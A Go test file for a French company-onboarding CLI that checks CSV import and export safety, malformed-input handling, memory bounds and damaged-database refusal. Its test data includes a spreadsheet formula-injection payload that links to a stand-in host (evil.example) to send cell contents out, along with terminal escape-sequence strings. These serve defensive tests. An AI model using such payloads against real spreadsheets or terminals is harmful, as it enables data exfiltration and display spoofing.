package main

import (
	"bytes"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/chorusonboard/chorus-onboard/core"
	"github.com/chorusonboard/chorus-onboard/core/csvio"
	"github.com/chorusonboard/chorus-onboard/core/localfs"
	"github.com/chorusonboard/chorus-onboard/core/registry"
	"github.com/chorusonboard/chorus-onboard/core/sqlite"
	"github.com/chorusonboard/chorus-onboard/internal/testos"
)

// shortHeader is the import header the tests below use.
const shortHeader = "identifier;company_name;address;city;postal_code;phone\n"

// TestExportCannotRunFormulas (issue 10, item 8): cells starting with =, +,
// -, @, a tab or CR are written with a leading apostrophe; phone numbers
// and identifiers too, so Excel keeps them as text; and the file re-imports
// identically.
func TestExportCannotRunFormulas(t *testing.T) {
	db := filepath.Join(testos.TempDir(t), "onboard.db")
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1;"Cliquez")`, "@SUM(1+1)", "+SUM(1;2)", "-2+3",
		"\tTAB", "\rCR", "'=quoted already"}
	ids := sirets(len(payloads))
	var in strings.Builder
	in.WriteString(shortHeader)
	for i, p := range payloads {
		fmt.Fprintf(&in, "%s;\"%s\";\"%s\";Paris;75002;06 12 45 78 98\n", ids[i], strings.ReplaceAll(p, `"`, `""`), strings.ReplaceAll(p, `"`, `""`))
	}
	if code, out, errOut := runCLI(t, in.String(), nil, "import", "--db", db, "-"); code != 0 {
		t.Fatalf("import: %d\n%s%s", code, out, errOut)
	}
	code, exported, _ := runCLI(t, "", nil, "export", "--db", db)
	if code != 0 {
		t.Fatal(exported)
	}
	for _, line := range strings.Split(strings.TrimSpace(exported), "\n")[1:] {
		for _, cell := range splitCSVLine(t, line) {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
			if cell != "" && strings.Trim(cell, "0123456789 .") == "" {
				t.Errorf("a cell a spreadsheet would turn into a number: %q", cell)
			}
		}
	}
	if !strings.Contains(exported, `'+33612457898`) {
		t.Errorf("the phone is not kept as text: %s", exported)
	}
	// Re-imported: the same values, the apostrophes gone.
	db2 := filepath.Join(testos.TempDir(t), "again.db")
	if code, out, errOut := runCLI(t, exported, nil, "import", "--db", db2, "-"); code != 0 {
		t.Fatalf("re-import: %d\n%s%s", code, out, errOut)
	}
	_, again, _ := runCLI(t, "", nil, "export", "--db", db2)
	if again != exported {
		t.Fatalf("the export does not re-import identically:\n%s\nthen\n%s", exported, again)
	}
	st, err := sqlite.Open(t.Context(), db2, sqlite.ReadOnly())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	got := map[string]bool{}
	if err := st.Structures.EachStructure(t.Context(), func(r core.StructureRecord) error { got[r.Draft.CompanyName] = true; return nil }); err != nil {
		t.Fatal(err)
	}
	for _, p := range payloads {
		// A leading apostrophe is a spreadsheet's text marker: read as
		// such, as Excel shows it.
		if want := csvio.Unguard(strings.TrimSpace(p)); !got[want] {
			t.Errorf("company %q lost in the round trip (have %v)", want, got)
		}
	}
}

func splitCSVLine(t *testing.T, line string) []string {
	t.Helper()
	var out []string
	var cur strings.Builder
	quoted := false
	for i := 0; i < len(line); i++ {
		switch c := line[i]; {
		case c == '"' && quoted && i+1 < len(line) && line[i+1] == '"':
			cur.WriteByte('"')
			i++
		case c == '"':
			quoted = !quoted
		case c == ',' && !quoted:
			out = append(out, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	return append(out, cur.String())
}

// TestNothingDroppedSilently (item 9).
func TestNothingDroppedSilently(t *testing.T) {
	ids := sirets(12)
	row := func(i int) string { return ids[i] + ";Société " + fmt.Sprint(i) + ";1 rue;Paris;75002;\n" }
	dir := testos.TempDir(t)
	// An unclosed quote on line 3 of a 10-line file.
	var f strings.Builder
	f.WriteString(shortHeader)
	for i := range 9 {
		if i == 1 {
			f.WriteString(`"` + row(i))
			continue
		}
		f.WriteString(row(i))
	}
	code, out, _ := runCLI(t, f.String(), nil, "import", "--db", filepath.Join(dir, "a.db"), "-")
	t.Logf("unclosed quote on line 3 of 10: exit %d, %q", code, out)
	if code != 1 || !strings.Contains(out, "line 3: csv: csv.unclosed_quote:") || !strings.Contains(out, "7 line(s)") ||
		!strings.Contains(out, "lines not read 7") {
		t.Fatalf("unclosed quote: exit %d\n%s", code, out)
	}
	// UTF-16 (Excel's "Unicode text").
	u16 := utf16.Encode([]rune("\ufeff" + shortHeader + row(0)))
	var b bytes.Buffer
	for _, u := range u16 {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	code, _, errOut := runCLI(t, b.String(), map[string]string{"LANG": "en_US.UTF-8"}, "import", "--db", filepath.Join(dir, "b.db"), "-")
	if code != 2 || !strings.Contains(errOut, "This file is UTF-16: save it as UTF-8 or CSV (separator ;)") {
		t.Fatalf("UTF-16: exit %d %q", code, errOut)
	}
	// Excel's sep=; line: accepted, and line numbers still count it.
	code, out, _ = runCLI(t, "sep=;\n"+shortHeader+row(0)+ids[1]+";;1 rue;Paris;75002;\n", nil, "import", "--db", filepath.Join(dir, "c.db"), "-")
	if code != 1 || !strings.Contains(out, "line 4: company_name: required") || !strings.HasSuffix(out, "imported 1, updated 0, rejected 1\n") {
		t.Fatalf("sep=;: exit %d\n%s", code, out)
	}
	// A duplicate identifier: said, with the line that won.
	code, out, _ = runCLI(t, shortHeader+row(0)+row(1)+strings.Replace(row(0), "Société 0", "Société 0 bis", 1), nil,
		"import", "--db", filepath.Join(dir, "d.db"), "-")
	if code != 0 || !strings.Contains(out, "line 4: identifier: csv.duplicate: This identifier is also on line 2: the values of line 4 were kept.") ||
		!strings.Contains(out, "duplicates 1") {
		t.Fatalf("duplicate: exit %d\n%s", code, out)
	}
	// A value past the last column.
	code, out, _ = runCLI(t, shortHeader+ids[2]+";A;1 rue;Paris;75002;;X\n", nil, "import", "--db", filepath.Join(dir, "e.db"), "-")
	if code != 1 || !strings.Contains(out, "line 2: csv: csv.extra_fields") {
		t.Fatalf("extra values: exit %d\n%s", code, out)
	}
}

// TestHugeFieldBoundedMemory (item 9): a field of 300 MB is refused with
// its row and memory stays flat; the rows after it are read.
func TestHugeFieldBoundedMemory(t *testing.T) {
	if raceDetector || testing.Short() {
		t.Skip("300 MB through the importer: make test runs it without -race")
	}
	ids := sirets(2)
	r, w := io.Pipe()
	go func() {
		fmt.Fprint(w, shortHeader+ids[0]+";")
		chunk := bytes.Repeat([]byte("A"), 1<<20)
		for range 300 {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
		fmt.Fprint(w, ";1 rue;Paris;75002;\n"+ids[1]+";B;1 rue;Paris;75002;\n")
		w.Close()
	}()
	var out, errOut bytes.Buffer
	heap := testos.WatchHeap(t)
	code := run([]string{"import", "--db", filepath.Join(testos.TempDir(t), "h.db"), "-"}, env{stdin: r, stdout: &out, stderr: &errOut, getenv: func(string) string { return "" }})
	heap.Done()
	t.Logf("a 300 MB field: exit %d, %q, live heap peak %d MiB (with garbage not yet collected %d MiB)", code, out.String(), heap.Live>>20, heap.Alloc>>20)
	if code != 1 || !strings.Contains(out.String(), "line 2: company_name: csv.too_long") || !strings.HasSuffix(out.String(), "imported 1, updated 0, rejected 1\n") {
		t.Fatalf("exit %d\n%s%s", code, out.String(), errOut.String())
	}
	if heap.Live > 64<<20 {
		t.Fatalf("live heap peak %d MiB for a 300 MB field", heap.Live>>20)
	}
}

// TestReadOnlyAndDamagedDatabases (item 10).
func TestReadOnlyAndDamagedDatabases(t *testing.T) {
	dir := testos.TempDir(t)
	db := filepath.Join(dir, "onboard.db")
	if code, out, _ := runCLI(t, csvRows(sirets(3)), nil, "import", "--db", db, "-"); code != 0 {
		t.Fatal(out)
	}
	t.Run("loose permissions are tightened and said once", func(t *testing.T) {
		testos.SkipUnderWine(t, "ACL")
		testos.Share(t, db)
		_, _, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", db, "-")
		if !strings.Contains(errOut, "readable by other users") {
			t.Fatalf("no word of the permissions: %q", errOut)
		}
		if ok, err := localfs.Private(db); !ok || err != nil {
			t.Fatalf("the database is still open to others (%v)", err)
		}
		if _, _, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", db, "-"); strings.Contains(errOut, "readable") {
			t.Fatalf("said twice: %q", errOut)
		}
	})
	t.Run("list, export and status on a database nobody may write", func(t *testing.T) {
		// Outside t.TempDir, whose parent only its owner may enter.
		roDir, err := os.MkdirTemp("", "onboardctl-ro-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			os.Chmod(roDir, 0o755)
			os.Chmod(filepath.Join(roDir, "onboard.db"), 0o644)
			os.RemoveAll(roDir)
		})
		ro := filepath.Join(roDir, "onboard.db")
		run := runCLIArgs
		if runtime.GOOS == "windows" {
			// The read-only attribute: what Windows' "Read-only" box and a
			// file copied from a CD or a protected share give. (A
			// directory's read-only attribute does not stop writes in it.)
			copyFile(t, db, ro, 0o444)
		} else {
			if os.Geteuid() == 0 {
				if _, err := exec.LookPath("setpriv"); err != nil {
					t.Skip("running as root without setpriv: cannot drop to a user the file modes bind")
				}
			}
			if err := os.Chmod(roDir, 0o755); err != nil {
				t.Fatal(err)
			}
			copyFile(t, db, ro, 0o444)
			if err := os.Chmod(roDir, 0o555); err != nil {
				t.Fatal(err)
			}
			run = runAsOther
		}
		for _, args := range [][]string{{"list"}, {"export"}, {"status"}} {
			code, out, errOut := run(t, append(args, "--db", ro)...)
			if code != 0 || !strings.Contains(out, "queued") {
				t.Fatalf("%s on a read-only database: exit %d\n%s%s", args[0], code, out, errOut)
			}
		}
	})
	t.Run("import refuses a damaged database and changes nothing", func(t *testing.T) {
		bad := filepath.Join(testos.TempDir(t), "bad.db")
		copyFile(t, db, bad, 0o600)
		damage(t, bad)
		before := sha(t, bad)
		code, out, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", bad, "-")
		if code != 2 || !strings.Contains(errOut, "damaged") || !strings.Contains(errOut, "nothing was changed") || out != "" {
			t.Fatalf("damaged database: exit %d\n%s%s", code, out, errOut)
		}
		if sha(t, bad) != before {
			t.Fatal("the damaged database was changed")
		}
	})
}

// runCLIArgs runs onboardctl in this process with no input and the
// test's environment.
func runCLIArgs(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	return runCLI(t, "", nil, args...)
}

// runAsOther runs onboardctl as the user nobody when the test runs as root
// (root reads and writes whatever the modes say), else as the test's user.
func runAsOther(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	binDir, err := os.MkdirTemp("", "onboardctl-bin-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(binDir) })
	if err := os.Chmod(binDir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(binDir, "onboardctl.test")
	copyFile(t, self, bin, 0o755)
	a, _ := json.Marshal(args)
	cmd := exec.Command(bin, "-test.run=^$")
	if os.Geteuid() == 0 {
		cmd = exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", bin, "-test.run=^$")
	}
	cmd.Env = append(os.Environ(), childEnv+"="+string(a), "HOME=/nonexistent", localfs.DataDirEnv+"=/nonexistent/data")
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	err = cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return code, out.String(), errOut.String()
}

func copyFile(t *testing.T, from, to string, mode os.FileMode) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(to, mode); err != nil {
		t.Fatal(err)
	}
}

// damage overwrites a page in the middle of the structure table's B-tree.
func damage(t *testing.T, path string) {
	t.Helper()
	raw, err := sql.Open("sqlite", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	var page int
	if err := raw.QueryRow(`SELECT rootpage FROM sqlite_master WHERE name = 'structure'`).Scan(&page); err != nil {
		t.Fatal(err)
	}
	if _, err := raw.Exec(`PRAGMA wal_checkpoint(TRUNCATE)`); err != nil {
		t.Fatal(err)
	}
	raw.Close()
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteAt(bytes.Repeat([]byte{0xA5}, 3000), int64(page-1)*4096+8); err != nil {
		t.Fatal(err)
	}
}

func sha(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%x", b[:min(len(b), 1<<20)])
}

// TestBadPortalURL (item 11): a URL that is not http(s) is a usage error,
// at once.
func TestBadPortalURL(t *testing.T) {
	db := filepath.Join(testos.TempDir(t), "onboard.db")
	for _, u := range []string{"file:///x", "htp://x", "portal.example", "https://user:pw@portal.example"} {
		start := time.Now()
		code, out, errOut := runCLI(t, "pw\n", nil, "sync", "--db", db, "--portal", u, "--email", "a@b.fr", "--password-stdin", "--timeout", "1m")
		t.Logf("sync --portal %s: exit %d after %v", u, code, time.Since(start).Round(time.Millisecond))
		if code != 2 || out != "" || !strings.Contains(errOut, "--portal") || strings.Contains(errOut, "pw@") {
			t.Fatalf("--portal %s: exit %d %q %q", u, code, out, errOut)
		}
	}
}

// TestPortalInClearRefused (hardening, second round, item 2): a portal or
// registry at an http:// address on another computer is refused on the
// command line before any password is read or sent, with the reason; on
// this computer (a Local sandbox elsewhere) http stays allowed.
func TestPortalInClearRefused(t *testing.T) {
	db := filepath.Join(testos.TempDir(t), "onboard.db")
	code, out, errOut := runCLI(t, "pw\n", nil, "sync", "--db", db, "--portal", "http://portal.example.org", "--email", "a@b.fr", "--password-stdin", "--timeout", "1m")
	if code != 2 || out != "" || !strings.Contains(errOut, "--portal") || !strings.Contains(errOut, "not encrypted") {
		t.Fatalf("sync --portal http://portal.example.org: exit %d %q %q", code, out, errOut)
	}
	code, out, errOut = runCLI(t, "", nil, "lookup", "--db", db, "--insee-url", "http://api.insee.fr", "siret", "73282932000074")
	if code != 2 || !strings.Contains(errOut, "--insee-url") || !strings.Contains(errOut, "not encrypted") {
		t.Fatalf("lookup --insee-url http://…: exit %d %q %q", code, out, errOut)
	}
	t.Logf("sync --portal http://portal.example.org: exit 2, %s", strings.TrimSpace(errOut))
}

var _ = sqlite.SchemaVersion

// TestImportRejectedFile: --rejected writes the refused rows with an error
// column (in the user's language, the file's separator); fixed, the file
// imports again.
func TestImportRejectedFile(t *testing.T) {
	ids := sirets(3)
	dir := testos.TempDir(t)
	db, rejected := filepath.Join(dir, "a.db"), filepath.Join(dir, "rejected.csv")
	in := shortHeader + ids[0] + ";Bon;1 rue;Paris;75002;\n" + ids[1] + ";;1 rue;Paris;75002;\n" + ids[2] + ";Sans CP;1 rue;Paris;;\n"
	code, out, _ := runCLI(t, in, map[string]string{"LANG": "fr_FR.UTF-8"}, "import", "--db", db, "--rejected", rejected, "-")
	if code != 1 || !strings.Contains(out, "imported 1, updated 0, rejected 2") || !strings.Contains(out, "rejected rows written to "+rejected) {
		t.Fatalf("exit %d\n%s", code, out)
	}
	b, err := os.ReadFile(rejected)
	if err != nil {
		t.Fatal(err)
	}
	got := string(b)
	if !strings.HasPrefix(got, "\ufefferreur;") || strings.Count(got, "\n") != 3 || !strings.Contains(got, "ligne 3: Raison sociale") {
		t.Fatalf("rejected rows:\n%s", got)
	}
	if !testos.UnderWine(t, "ACL") {
		if ok, err := localfs.Private(rejected); !ok || err != nil {
			t.Errorf("the rejected rows are readable by others (%v)", err)
		}
	}
	fixed := strings.Replace(strings.Replace(got, ";;1 rue;Paris;'75002;", ";Corrigé;1 rue;Paris;'75002;", 1), ";Paris;;", ";Paris;75002;", 1)
	code, out, _ = runCLI(t, fixed, nil, "import", "--db", db, "-")
	if code != 0 || !strings.Contains(out, "imported 2, updated 0, rejected 0") {
		t.Fatalf("the fixed file: exit %d\n%s\n%s", code, out, fixed)
	}
	// No file of rejected rows is left behind in the data directory.
	if left, _ := filepath.Glob(filepath.Join(dir, "rejected-*.csv")); len(left) != 0 {
		t.Errorf("spool files left: %v", left)
	}
}

// TestErrorsSayWhatFailed (hardening, second round, item 13): a portal
// address where a plain web server answers 404 says so (before:
// "Something went wrong"); a registry that cuts the connection is named as
// the registry (before: "The portal cannot be reached").
func TestErrorsSayWhatFailed(t *testing.T) {
	web := httptest.NewServer(http.NotFoundHandler())
	defer web.Close()
	db := filepath.Join(testos.TempDir(t), "onboard.db")
	code, out, errOut := runCLI(t, syncPassword+"\n", nil, "sync", "--db", db, "--portal", web.URL, "--email", "sync@example.fr", "--password-stdin", "--timeout", "30s")
	if code == 0 || !strings.Contains(errOut, "No onboarding portal answers at "+web.URL) {
		t.Fatalf("sync against a 404: exit %d %q %q", code, out, errOut)
	}
	cut := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, _, err := w.(http.Hijacker).Hijack()
		if err == nil {
			c.Close()
		}
	}))
	defer cut.Close()
	code, out, errOut = runCLI(t, "", nil, "lookup", "--db", db, "--registry-url", cut.URL, "siret", "73282932000074")
	if code == 0 || !strings.Contains(out+errOut, "company registry cannot be reached") {
		t.Fatalf("lookup against a registry that cuts: exit %d %q %q", code, out, errOut)
	}
}

// TestLowItems (hardening, second round, items 14 to 16).
func TestLowItems(t *testing.T) {
	t.Run("registry text with escape sequences is printed, not obeyed", func(t *testing.T) {
		hostile := "ATELIERS\x1b]0;pwned\x07\x1b[2J DUPONT\u202e"
		reg := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			json.NewEncoder(w).Encode(registry.SearchAnswer{TotalResults: 1, Results: []registry.Result{{
				Siren: "732829320", NomRaisonSociale: hostile, NomComplet: hostile, EtatAdministratif: "A", StatutDiffusion: "O",
				Siege: registry.Etablissement{Siret: "73282932000074", Adresse: "12 RUE\x1b[31m DE LA PAIX", CodePostal: "75002",
					LibelleCommune: "PARIS", EtatAdministratif: "A", StatutDiffusionEtablissement: "O", EstSiege: true}}}})
		}))
		defer reg.Close()
		db := filepath.Join(testos.TempDir(t), "onboard.db")
		code, out, errOut := runCLI(t, "", nil, "lookup", "--db", db, "--registry-url", reg.URL, "siret", "73282932000074")
		if code != 0 || strings.ContainsAny(out, "\x1b\x07\u202e") || !strings.Contains(out, "ATELIERS\ufffd]0;pwned\ufffd") {
			t.Fatalf("lookup printed %q (exit %d, %q)", out, code, errOut)
		}
	})
	t.Run("export or rejected rows onto the database are refused", func(t *testing.T) {
		dir := testos.TempDir(t)
		db := filepath.Join(dir, "onboard.db")
		if code, out, _ := runCLI(t, csvRows(sirets(3)), nil, "import", "--db", db, "-"); code != 0 {
			t.Fatal(out)
		}
		before := sha(t, db)
		for _, args := range [][]string{{"export", "--db", db, db}, {"import", "--db", db, "--rejected", db, "-"}} {
			code, _, errOut := runCLI(t, shortHeader+"1;x;1 rue;Paris;75002;\n", nil, args...)
			if code != 2 || !strings.Contains(errOut, "the database itself") {
				t.Fatalf("%v: exit %d %q", args, code, errOut)
			}
		}
		if sha(t, db) != before {
			t.Fatal("the database was changed")
		}
	})
	t.Run("a data directory named by CHORUS_ONBOARD_DATA is left shared", func(t *testing.T) {
		shared := testos.TempDir(t)
		testos.Share(t, shared)
		t.Setenv(localfs.DataDirEnv, shared)
		code, out, _ := runCLI(t, csvRows(sirets(2)), map[string]string{localfs.DataDirEnv: shared}, "import", "-")
		if code != 0 {
			t.Fatal(out)
		}
		if ok, err := localfs.Private(shared); ok || err != nil {
			t.Fatalf("the team's shared directory was tightened (%v)", err)
		}
		if !testos.UnderWine(t, "ACL") {
			if ok, err := localfs.Private(filepath.Join(shared, localfs.DatabaseFile)); !ok || err != nil {
				t.Fatalf("the database in it is not private (%v)", err)
			}
		}
	})
}

// TestValidateHugeLine (hardening, second round, item 18): "validate -"
// reads a 300 MB line in bounded memory and goes on with the next lines
// (before: 632 MB held for it).
func TestValidateHugeLine(t *testing.T) {
	if raceDetector {
		t.Skip("300 MB through the race detector: make test runs it without")
	}
	pr, pw := io.Pipe()
	go func() {
		pw.Write([]byte("732 829 320\n"))
		chunk := bytes.Repeat([]byte("9"), 1<<20)
		for range 300 {
			pw.Write(chunk)
		}
		pw.Write([]byte("\n404833048\r\n"))
		pw.Close()
	}()
	heap := testos.WatchHeap(t)
	var out bytes.Buffer
	code := run([]string{"validate", "siren", "-"}, env{stdin: pr, stdout: &out, stderr: io.Discard, getenv: os.Getenv})
	heap.Done()
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	if code != 1 || len(lines) != 3 || lines[0] != "ok 732829320" || !strings.HasPrefix(lines[1], "invalid value.too_long") || lines[2] != "ok 404833048" {
		t.Fatalf("exit %d:\n%s", code, out.String())
	}
	if heap.Live > 64<<20 {
		t.Fatalf("live heap peaked at %d MiB for a 300 MB line", heap.Live>>20)
	}
	t.Logf("a 300 MB line: live heap peak %d MiB (with garbage %d MiB); the lines after it checked", heap.Live>>20, heap.Alloc>>20)
}
